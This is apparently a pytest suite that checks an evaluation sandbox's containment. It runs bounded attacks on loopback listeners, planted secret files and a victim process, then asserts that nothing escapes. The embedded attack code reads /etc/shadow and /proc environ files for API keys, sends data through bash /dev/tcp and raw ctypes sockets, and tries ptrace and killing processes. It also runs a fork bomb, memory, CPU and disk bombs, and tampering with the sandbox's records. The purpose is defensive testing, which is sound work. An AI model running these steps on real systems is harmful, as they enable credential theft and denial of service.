"""The arena's sandbox against an attacker: bounded attacks, each asserting containment.

Every attack targets only loopback services and files this test creates, and is bounded
in time and count. The evaluator side (this process) plants what an attacker would want:
a secret file, API keys in its own environment, a long-running "victim" process with a
key in its environment, TCP/UDP/IPv6 listeners on loopback, a filesystem and an abstract
``AF_UNIX`` socket. Most attacks run in one sandboxed run (``attacks.py`` below reports
what each attempt returned); the ones that need a run of their own (fork bomb, daemon,
memory, CPU, disk, killing the launcher) have one. The assertions check the outside
world (the listener heard nothing, the file is unchanged, the victim lives, no process
of the run survives), not only what the attack printed.

Where bubblewrap cannot run, these tests skip; under CI (``CI=true``) they fail
instead, so a CI machine without the isolation mechanism cannot pass silently.
"""

from __future__ import annotations

import contextlib
import json
import os
import pathlib
import secrets
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest

from lc_evals.arena.patch import make_diff
from lc_evals.arena.pids_cgroup import PidsCgroup
from lc_evals.arena.sandbox import RunResult, SandboxLimits, isolation_status, run_sandboxed

LIMITS = SandboxLimits(
    cpu_seconds=3,
    memory_bytes=512 * 1024**2,
    max_processes=24,
    file_size_bytes=4 * 1024**2,
    wall_seconds=20,
    disk_bytes=32 * 1024**2,
)


@pytest.fixture(scope="module", autouse=True)
def isolation() -> None:
    ok, why = isolation_status()
    if ok:
        return
    if os.environ.get("CI", "").lower() in ("true", "1"):
        pytest.fail(f"CI must run the sandbox attack suite, but: {why}", pytrace=False)
    pytest.skip(why)


@dataclass
class Listener:
    """A loopback service outside the sandbox that records anything reaching it."""

    kind: str
    address: object
    sock: socket.socket
    heard: list[str] = field(default_factory=list)

    def serve(self) -> None:
        self.sock.settimeout(0.2)
        while self.sock.fileno() != -1:
            try:
                if self.kind == "udp":
                    data, _ = self.sock.recvfrom(4096)
                    self.heard.append(data.decode(errors="replace"))
                else:
                    conn, _ = self.sock.accept()
                    conn.settimeout(1)
                    with contextlib.suppress(OSError):
                        self.heard.append("connected:" + conn.recv(4096).decode(errors="replace"))
                    conn.close()
            except TimeoutError:
                continue
            except OSError:
                return


@dataclass
class Host:
    root: pathlib.Path
    repo: pathlib.Path
    secret: str
    secret_file: pathlib.Path
    target: pathlib.Path
    victim: subprocess.Popen[bytes]
    listeners: dict[str, Listener]
    result: RunResult | None = None
    report: dict[str, str] = field(default_factory=dict)
    mode: str = ""


def _listen(kind: str, tag: str) -> Listener | None:
    try:
        if kind == "tcp":
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.bind(("127.0.0.1", 0))
        elif kind == "tcp6":
            s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            s.bind(("::1", 0))
        elif kind == "udp":
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind(("127.0.0.1", 0))
        elif kind == "unix":
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.bind(tag)
        else:  # abstract AF_UNIX name
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.bind("\0" + tag)
    except OSError:
        return None  # e.g. no IPv6 on this machine
    if kind != "udp":
        s.listen(8)
    addr = s.getsockname()
    listener = Listener(kind, addr if kind not in ("abstract",) else tag, s)
    threading.Thread(target=listener.serve, daemon=True).start()
    return listener


ATTACKS = r"""
import ctypes, json, os, signal, socket, subprocess, sys
cfg = json.loads(open("attack.json").read())
out = {}
libc = ctypes.CDLL(None, use_errno=True)

def attempt(name, fn):
    try:
        out[name] = "ok:" + str(fn())[:300]
    except BaseException as exc:
        out[name] = "refused:" + type(exc).__name__ + ":" + str(exc)[:200]

def connect(family, kind, addr, payload=b"leak"):
    s = socket.socket(family, kind)
    s.settimeout(1)
    if kind == socket.SOCK_DGRAM:
        s.sendto(payload, addr)
        return "sent"
    s.connect(addr)
    s.sendall(payload)
    return "connected"

secret = cfg["secret_file"]
attempt("read_secret_file", lambda: open(secret).read())
attempt("read_shadow", lambda: open("/etc/shadow").read())
attempt("list_root_home", lambda: os.listdir("/root"))
attempt("write_outside", lambda: open(cfg["target"], "a").write("pwned-python"))
attempt("write_source_repo", lambda: open(cfg["repo"] + "/README.md", "a").write("pwned"))
attempt("write_outside_shell", lambda: subprocess.run(
    ["sh", "-c", "echo pwned-shell >> " + cfg["target"]], capture_output=True, timeout=5
).returncode)
attempt("write_outside_isolated_python", lambda: subprocess.run(
    [sys.executable, "-I", "-S", "-c",
     "open(%r, 'a').write('pwned-isolated'); print('wrote')" % cfg["target"]],
    capture_output=True, text=True, timeout=10).stdout)

def ctypes_write():
    fd = libc.open(cfg["target"].encode(), os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "open")
    return libc.write(fd, b"pwned-ctypes", 12)
attempt("write_outside_ctypes", ctypes_write)

attempt("tcp_loopback", lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", cfg["tcp"])))
attempt("udp_loopback", lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", cfg["udp"])))
if cfg.get("tcp6"):
    attempt("tcp6_loopback", lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, ("::1", cfg["tcp6"])))
attempt("unix_socket_outside", lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, cfg["unix"]))
attempt("abstract_unix_socket", lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + cfg["abstract"]))

def raw_tcp():
    # socket(2) and connect(2) through ctypes, past every Python-level hook
    fd = libc.socket(2, 1, 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "socket")
    port = cfg["tcp"]
    sa = bytes([2, 0, port >> 8, port & 255, 127, 0, 0, 1]) + bytes(8)
    if libc.connect(fd, sa, 16) != 0:
        raise OSError(ctypes.get_errno(), "connect")
    return libc.send(fd, b"leak-ctypes", 11, 0)
attempt("tcp_loopback_ctypes", raw_tcp)
attempt("tcp_loopback_bash", lambda: subprocess.run(
    ["bash", "-c", "echo leak-bash > /dev/tcp/127.0.0.1/%d && echo sent" % cfg["tcp"]],
    capture_output=True, text=True, timeout=5).stdout)
attempt("tcp_loopback_isolated_python", lambda: subprocess.run(
    [sys.executable, "-I", "-S", "-c",
     "import socket; socket.create_connection(('127.0.0.1', %d), 1).sendall(b'leak-isolated'); print('sent')" % cfg["tcp"]],
    capture_output=True, text=True, timeout=10).stdout)
attempt("packet_socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("interfaces", lambda: sorted(name for _, name in socket.if_nameindex()))

victim = cfg["victim"]
attempt("victim_environ", lambda: open("/proc/%d/environ" % victim, "rb").read())
attempt("evaluator_environ", lambda: open("/proc/%d/environ" % cfg["evaluator"], "rb").read())
attempt("evaluator_cwd", lambda: os.listdir("/proc/%d/cwd" % cfg["evaluator"]))
attempt("all_environs", lambda: [open("/proc/%s/environ" % p, "rb").read()
                                  for p in os.listdir("/proc") if p.isdigit()])
attempt("own_environment", lambda: dict(os.environ))
attempt("kill_victim", lambda: os.kill(victim, signal.SIGKILL))
attempt("renice_victim", lambda: os.setpriority(os.PRIO_PROCESS, victim, 19))

def ptrace_victim():
    if libc.ptrace(16, victim, 0, 0) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")
    return "attached"
attempt("ptrace_victim", ptrace_victim)

def new_userns():
    if libc.unshare(0x10000000) != 0:  # CLONE_NEWUSER: a way to regain capabilities
        raise OSError(ctypes.get_errno(), "unshare")
    return "new user namespace"
attempt("new_user_namespace", new_userns)
attempt("processes_visible", lambda: sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
print(json.dumps(out))
"""


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Host]:
    root = tmp_path_factory.mktemp("host")
    repo = root / "repo"
    repo.mkdir()
    (repo / "README.md").write_text("a tiny repository\n")
    secret = "sk-" + secrets.token_hex(16)
    secret_file = root / "secret.txt"
    secret_file.write_text(secret + "\n")
    target = root / "outside.txt"
    target.write_text("original\n")
    victim = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(120)"],
        env={"PATH": "/usr/bin:/bin", "OPENAI_API_KEY": secret},
    )
    listeners: dict[str, Listener] = {}
    for kind, tag in [
        ("tcp", ""),
        ("tcp6", ""),
        ("udp", ""),
        ("unix", str(root / "host.sock")),
        ("abstract", "lc-arena-test-" + secrets.token_hex(4)),
    ]:
        listener = _listen(kind, tag)
        if listener is not None:
            listeners[kind] = listener
    h = Host(root, repo, secret, secret_file, target, victim, listeners)
    try:
        yield h
    finally:
        victim.kill()
        victim.wait()
        for listener in listeners.values():
            listener.sock.close()


@pytest.fixture(scope="module", params=["all_layers", "bubblewrap_only"])
def attacked(host: Host, request: pytest.FixtureRequest) -> Iterator[Host]:
    """One sandboxed run of ``attacks.py`` with secrets in the evaluator's environment:
    with every layer, then with bubblewrap alone (no Landlock, no seccomp)."""
    cfg = {
        "secret_file": str(host.secret_file),
        "target": str(host.target),
        "repo": str(host.repo),
        "victim": host.victim.pid,
        "evaluator": os.getpid(),
        "tcp": host.listeners["tcp"].sock.getsockname()[1],
        "udp": host.listeners["udp"].sock.getsockname()[1],
        "tcp6": host.listeners["tcp6"].sock.getsockname()[1] if "tcp6" in host.listeners else 0,
        "unix": str(host.root / "host.sock"),
        "abstract": host.listeners["abstract"].address,
    }
    patch = make_diff("attacks.py", None, ATTACKS) + make_diff(
        "attack.json", None, json.dumps(cfg) + "\n"
    )
    planted = {"OPENAI_API_KEY": host.secret, "GITHUB_TOKEN": host.secret}
    planted["LC_ARENA_KERNEL_LAYERS"] = "1" if request.param == "all_layers" else "0"
    old = {k: os.environ.get(k) for k in planted}
    os.environ.update(planted)
    try:
        host.result = run_sandboxed(
            host.repo,
            ["{python}", "attacks.py"],
            patches=[patch],
            limits=LIMITS,
            canaries=[host.target, host.secret_file],
        )
    finally:
        for k, v in old.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
    time.sleep(0.3)  # let the listeners record anything that arrived
    lines = [ln for ln in host.result.stdout.splitlines() if ln.startswith("{")]
    assert lines, host.result.stdout + host.result.stderr
    host.report = json.loads(lines[-1])
    host.mode = request.param
    yield host
    host.result, host.report = None, {}


def _refused(host: Host, name: str) -> None:
    assert host.report[name].startswith("refused:"), f"{name}: {host.report[name]}"


def test_the_attack_run_itself_ran_isolated(attacked: Host) -> None:
    r = attacked.result
    assert r is not None
    assert r.isolation == "bubblewrap"
    assert {"bubblewrap", "userns", "pidns", "netns", "mountns", "cap_drop_all"} <= set(r.layers)
    assert r.returncode == 0, r.stderr
    if attacked.mode == "bubblewrap_only":
        assert not {"landlock_fs", "seccomp"} & set(r.layers)


def test_reading_a_file_outside_is_impossible(attacked: Host) -> None:
    _refused(attacked, "read_secret_file")
    _refused(attacked, "read_shadow")
    # /root holds at most the path to a Python installation bound read-only
    home = attacked.report["list_root_home"]
    if home.startswith("ok:"):
        python = {sys.prefix, sys.base_prefix, os.path.realpath(sys.executable)}
        needed = {p.split("/")[2] for p in python if p.startswith("/root/")}
        assert set(json.loads(home[3:].replace("'", '"'))) <= needed
    assert attacked.secret not in json.dumps(attacked.report)


@pytest.mark.parametrize(
    "name",
    [
        "write_outside",
        "write_outside_shell",
        "write_outside_isolated_python",
        "write_outside_ctypes",
        "write_source_repo",
    ],
)
def test_writing_outside_leaves_the_file_unchanged(attacked: Host, name: str) -> None:
    assert attacked.target.read_text() == "original\n"
    assert (attacked.repo / "README.md").read_text() == "a tiny repository\n"
    assert "wrote" not in attacked.report[name]
    r = attacked.result
    assert r is not None
    assert not [e for e in r.events if e.action == "detected"]  # canaries untouched


@pytest.mark.parametrize(
    ("name", "listener"),
    [
        ("tcp_loopback", "tcp"),
        ("udp_loopback", "udp"),
        ("tcp6_loopback", "tcp6"),
        ("tcp_loopback_ctypes", "tcp"),
        ("tcp_loopback_bash", "tcp"),
        ("tcp_loopback_isolated_python", "tcp"),
        ("unix_socket_outside", "unix"),
        ("abstract_unix_socket", "abstract"),
    ],
)
def test_no_host_socket_is_reachable(attacked: Host, name: str, listener: str) -> None:
    if listener not in attacked.listeners:
        pytest.skip(f"no {listener} on this machine")
    assert attacked.listeners[listener].heard == []
    assert "sent" not in attacked.report[name]
    assert "connected" not in attacked.report[name]


def test_no_raw_socket_and_no_host_interface(attacked: Host) -> None:
    _refused(attacked, "packet_socket")
    iface = attacked.report["interfaces"]
    if iface.startswith("ok:"):  # the seccomp layer may refuse the netlink socket
        assert json.loads(iface[3:].replace("'", '"')) == ["lo"]


def test_outside_processes_are_invisible(attacked: Host) -> None:
    for name in ("victim_environ", "evaluator_environ", "evaluator_cwd"):
        _refused(attacked, name)
    visible = json.loads(attacked.report["processes_visible"][3:])
    assert max(visible) < 20  # its own PID namespace: the init, the launcher, the run
    assert attacked.secret not in attacked.report["all_environs"]


def test_the_environment_holds_no_secret(attacked: Host) -> None:
    r = attacked.result
    assert r is not None
    env = attacked.report["own_environment"]
    assert "OPENAI_API_KEY" not in env
    assert "GITHUB_TOKEN" not in env
    assert attacked.secret not in r.stdout + r.stderr


def test_signals_and_ptrace_cannot_reach_outside_processes(attacked: Host) -> None:
    for name in ("kill_victim", "renice_victim", "ptrace_victim"):
        _refused(attacked, name)
    pid = attacked.victim.pid
    assert attacked.victim.poll() is None  # alive
    assert os.getpriority(os.PRIO_PROCESS, pid) == os.getpriority(os.PRIO_PROCESS, 0)  # as born
    status = pathlib.Path(f"/proc/{pid}/status").read_text()
    assert "TracerPid:\t0" in status


def test_no_new_user_namespace(attacked: Host) -> None:
    _refused(attacked, "new_user_namespace")


# ---- attacks that need a run of their own ------------------------------------------


def _run(repo: pathlib.Path, code: str, limits: SandboxLimits = LIMITS, **kw) -> RunResult:
    patch = make_diff("evil.py", None, code)
    return run_sandboxed(repo, ["{python}", "evil.py"], patches=[patch], limits=limits, **kw)


def _kinds(result: RunResult) -> set[str]:
    return {e.kind for e in result.events}


def _host_processes_with(marker: str) -> list[int]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError, IndexError):
            cmd = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes()
            state = pathlib.Path(f"/proc/{pid}/stat").read_bytes().rsplit(b")", 1)[1].split()[0]
            if marker.encode() in cmd and state != b"Z":
                found.append(int(pid))
    return found


def _kernel_caps_processes() -> bool:
    """Whether the kernel will bound a sandboxed fork bomb: RLIMIT_NPROC binds non-root
    hosts; for root only a pids cgroup does."""
    if os.geteuid() != 0:
        return True
    probe = PidsCgroup.create(1)
    if probe is None:
        return False
    probe.remove()
    return True


def test_fork_bomb_is_capped_and_killed(host: Host) -> None:
    if not _kernel_caps_processes():
        why = "root without a pids cgroup: a fork bomb would be bounded only by pid_max"
        if os.environ.get("CI", "").lower() in ("true", "1"):
            pytest.fail(f"CI must cap sandboxed processes in the kernel, but: {why}")
        pytest.skip(why)
    marker = "forkbomb-" + secrets.token_hex(4)
    code = (
        f"# {marker}\nimport os\nfor _ in range(100000):\n"
        "    try:\n        os.fork()\n    except OSError:\n        pass\n"
    )
    start = time.monotonic()
    result = _run(host.repo, code)
    assert time.monotonic() - start < 15
    assert "process_limit" in _kinds(result)
    assert not result.ok
    assert _host_processes_with("evil.py") == []
    if os.geteuid() == 0:
        assert "pids_cgroup" in result.layers


def test_a_double_forked_setsid_daemon_does_not_survive(host: Host) -> None:
    marker = "daemon-" + secrets.token_hex(4)
    code = (
        "import os, subprocess, sys\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execve(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', {marker!r}], {{}})\n"
        "    os._exit(0)\n"
        "os.wait()\n"
        "print('parent done')\n"
    )
    result = _run(host.repo, code)
    assert "parent done" in result.stdout
    assert "leftover_processes" in _kinds(result)
    assert not result.ok  # reported, not a pass
    assert _host_processes_with(marker) == []


def test_memory_bomb_is_refused(host: Host) -> None:
    result = _run(host.repo, "blob = bytearray(2 * 1024 ** 3)\nprint('allocated')\n")
    assert "allocated" not in result.stdout
    assert "memory_limit" in _kinds(result)
    assert not result.ok


def test_cpu_bomb_is_killed(host: Host) -> None:
    limits = SandboxLimits(cpu_seconds=1, wall_seconds=20, memory_bytes=512 * 1024**2)
    start = time.monotonic()
    result = _run(host.repo, "while True:\n    pass\n", limits)
    assert time.monotonic() - start < 10
    assert "cpu_limit" in _kinds(result)
    assert result.returncode == -signal.SIGXCPU or result.returncode == -signal.SIGKILL


def test_sleeping_forever_hits_the_wall_clock(host: Host) -> None:
    limits = SandboxLimits(cpu_seconds=5, wall_seconds=1.5, memory_bytes=512 * 1024**2)
    start = time.monotonic()
    result = _run(host.repo, "import time\nwhile True:\n    time.sleep(1)\n", limits)
    assert time.monotonic() - start < 8
    assert "wall_timeout" in _kinds(result)
    assert not result.ok


def test_filling_the_disk_stops_at_the_sandbox_quota(host: Host) -> None:
    code = (
        "import os\nwritten = 0\nfor where in ('.', '/tmp', '/dev/shm'):\n"
        "    st = os.statvfs(where)\n"
        "    print(where, 'size', st.f_blocks * st.f_frsize)\n"
        "    for i in range(100):\n"  # 100 x 1 MiB per place, more than the 32 MiB quota
        "        try:\n"
        "            with open(os.path.join(where, f'fill{i}'), 'wb') as f:\n"
        "                f.write(b'x' * 1024 ** 2)\n"
        "            written += 1\n"
        "        except OSError as exc:\n"
        "            print(where, 'refused:', exc)\n"
        "            break\n"
        "print('MiB written', written)\n"
    )
    result = _run(host.repo, code)
    assert "disk_limit" in _kinds(result)
    assert result.stdout.count("No space left on device") == 3
    sizes = [int(ln.split()[-1]) for ln in result.stdout.splitlines() if " size " in ln]
    assert sizes == [LIMITS.disk_bytes] * 3  # every writable place is a quota'd tmpfs
    written = int(result.stdout.split("MiB written")[1])
    assert written <= 3 * 32


def test_tampering_with_the_records_changes_nothing(host: Host) -> None:
    """The command tries to erase what is known of it: truncate and close every file
    descriptor it has, forge events, kill the launcher and every other process."""
    code = (
        "import os, signal, json\n"
        "open('/dev/null', 'w')\n"
        "for fd in range(3, 64):\n"
        "    try:\n        os.ftruncate(fd, 0)\n    except OSError:\n        pass\n"
        "    try:\n"
        '        os.write(fd, b\'{"status": 0, "leftovers": 0, "layers": []}\\n\')\n'
        "    except OSError:\n        pass\n"
        "for d in ('/proc/1/fd', '/proc/2/fd'):\n"
        "    for name in os.listdir(d) if os.path.isdir(d) else []:\n"
        "        try:\n"
        "            fd = os.open(os.path.join(d, name), os.O_WRONLY | os.O_TRUNC)\n"
        "            os.write(fd, b'{\"status\": 0}\\n')\n"
        "            print('reopened', d, name)\n"
        "        except OSError:\n            pass\n"
        "open('/tmp/x', 'w').write('x')\n"
        "os.kill(-1, signal.SIGKILL)\n"  # every process it may signal: the launcher too
        "raise SystemExit(3)\n"
    )
    result = _run(host.repo, code)
    assert "reopened" not in result.stdout
    assert result.returncode != 0  # the forged status was not believed
    assert not result.ok


@pytest.mark.parametrize("kernel_layers", ["1", "0"])
def test_killing_everything_inside_spares_the_outside(
    host: Host, kernel_layers: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LC_ARENA_KERNEL_LAYERS", kernel_layers)
    result = _run(host.repo, "import os, signal\nos.kill(-1, signal.SIGKILL)\nprint('alive')\n")
    assert host.victim.poll() is None
    if "landlock_scope" in result.layers:
        # Landlock keeps the command's signals inside its own domain: the launcher
        # lives, and reports the (harmless) run
        assert result.ok
        assert "alive" in result.stdout
    else:  # the launcher died with the rest: the run failed, loudly
        assert not result.ok
        assert "sandbox_error" in _kinds(result)
